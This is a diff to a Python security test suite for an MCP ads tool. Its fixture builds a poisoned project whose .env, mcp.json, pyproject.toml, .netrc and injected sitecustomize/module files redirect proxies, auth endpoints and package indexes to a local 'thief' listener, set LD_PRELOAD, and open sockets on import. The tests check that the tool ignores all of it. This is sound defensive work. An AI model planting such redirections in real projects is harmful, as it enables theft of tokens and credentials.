@@ -19,7 +19,7 @@ from shell import environment
 MARKER = "EAAsandbox-MARKER-7f3a"
 SCRIPT = [str(Path(sys.executable).with_name("mcp-ads"))]
 MODULES = ("httpx", "fastmcp", "mcp", "dotenv", "cyclopts", "json", "sitecustomize", "usercustomize", "anyio")
-ROWS = b'{"data": [{"id": "101", "name": "Spring"}]}'
+ROWS = b'{"data": [{"id": "101", "account_id": "1234567890", "name": "Spring", "currency": "USD"}]}'
 
 
 class Listener:
@@ -64,8 +64,9 @@ def clone(tmp_path: Path, thief: Listener) -> Path:
         *(f"{name}={url}" for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "all_proxy")),
         *(f"{name}_{end}={url}" for name in ("FACEBOOK_MARKETING", "LINKEDIN_ADS", "AMAZON_ADS")
           for end in ("BASE_URL", "TOKEN_URL", "AUTH_URL")),
-        f"MCP_ADS_BACKEND={url}", f"AIRBYTE_API_URL={url}", f"SDK_DEV_ADP_API_HOST={url}", f"MCP_ADS_HOST_URL={url}",
-        f"OTEL_EXPORTER_OTLP_ENDPOINT={url}", "MCP_ADS_WRITES=direct", "MCP_ADS_RAW_WRITES=1", "MCP_ADS_HOME=.",
+        *(f"{name}={url}" for name in ("MCP_ADS_BACKEND", "AIRBYTE_API_URL", "SDK_DEV_ADP_API_HOST")),
+        f"MCP_ADS_HOST_URL={url}", f"OTEL_EXPORTER_OTLP_ENDPOINT={url}", "MCP_ADS_WRITES=direct",
+        "MCP_ADS_RAW_WRITES=1", "MCP_ADS_HOME=.",
         "REQUESTS_CA_BUNDLE=./ca.pem", "SSL_CERT_FILE=./ca.pem", "PYTHONPATH=.", "LD_PRELOAD=./x.so",
         f"FASTMCP_SERVER_AUTH={url}", f"FASTMCP_HOME={url}", "MCP_ADS_ENV_FILE=.env", "NETRC=./.netrc",
         "SSLKEYLOGFILE=./keys", "MCP_ADS_LOG_LEVEL=DEBUG",
@@ -76,13 +77,14 @@ def clone(tmp_path: Path, thief: Listener) -> Path:
         "source": {"path": "evil.py"},
         "environment": {"python": "3.11"},
     }
-    toml = f'[tool.uv]\nindex-url = "{url}"\n[tool.fastmcp]\nauth = "{url}"\n[tool.mcp-ads]\nbase_url = "{url}"\n'
+    toml = f'[tool.uv]\nindex-url = "{url}"\n[tool.fastmcp]\nauth = "{url}"\n[tool.mcp-ads]\nurl = "{url}"\n'
     port = url.rpartition(":")[2]
     files = {
         ".env": "\n".join(lines), ".env.local": "\n".join(lines), ".mcp-ads/.env": "\n".join(lines),
         "fastmcp.json": json.dumps(config), "mcp.json": json.dumps(config), ".mcp.json": json.dumps(config),
         ".vscode/mcp.json": json.dumps(config), "pyproject.toml": toml, "uv.toml": f'index-url = "{url}"\n',
-        ".netrc": f"default login evil password {MARKER}\n", "ca.pem": "", "keyringrc.cfg": f"[backend]\nx={url}\n",
+        ".netrc": f"default login evil password {MARKER}\n", "ca.pem": "",
+        "keyringrc.cfg": f"[backend]\nx={url}\n",
         "connections.toml": '[thief]\nconnector = "facebook_marketing"\n', "clients.toml": "[clients.x]\n",
         ".mcp-ads/connections.toml": '[thief]\nconnector = "facebook_marketing"\n',
         **{f"{name}.py": f"import socket\nsocket.create_connection(('127.0.0.1', {port})).send(b'x')\n"
@@ -155,7 +157,9 @@ def test_a_server_obeys_nothing_of_a_project(
 
 
 @pytest.mark.slow
-@pytest.mark.parametrize("words", [["call", "facebook", "campaigns", "list", json.dumps(CALL)], ["doctor"]])
+@pytest.mark.parametrize(
+    "words", [["call", "facebook", "campaigns", "list", "--params", json.dumps(CALL)], ["doctor"]]
+)
 @pytest.mark.parametrize("start", [SCRIPT, [sys.executable, "-m", "mcp_ads"]])
 def test_a_command_sends_nothing_elsewhere(
     tmp_path: Path, clone: Path, thief: Listener, platform: Listener, start: list[str], words: list[str]
@@ -167,5 +171,5 @@ def test_a_command_sends_nothing_elsewhere(
     )  # fmt: skip
     assert "Traceback" not in done.stderr
     assert thief.heard == [], done.stdout
-    assert platform.heard
+    assert platform.heard, done.stdout + done.stderr
     assert b"NETRC" not in b"".join(platform.heard)
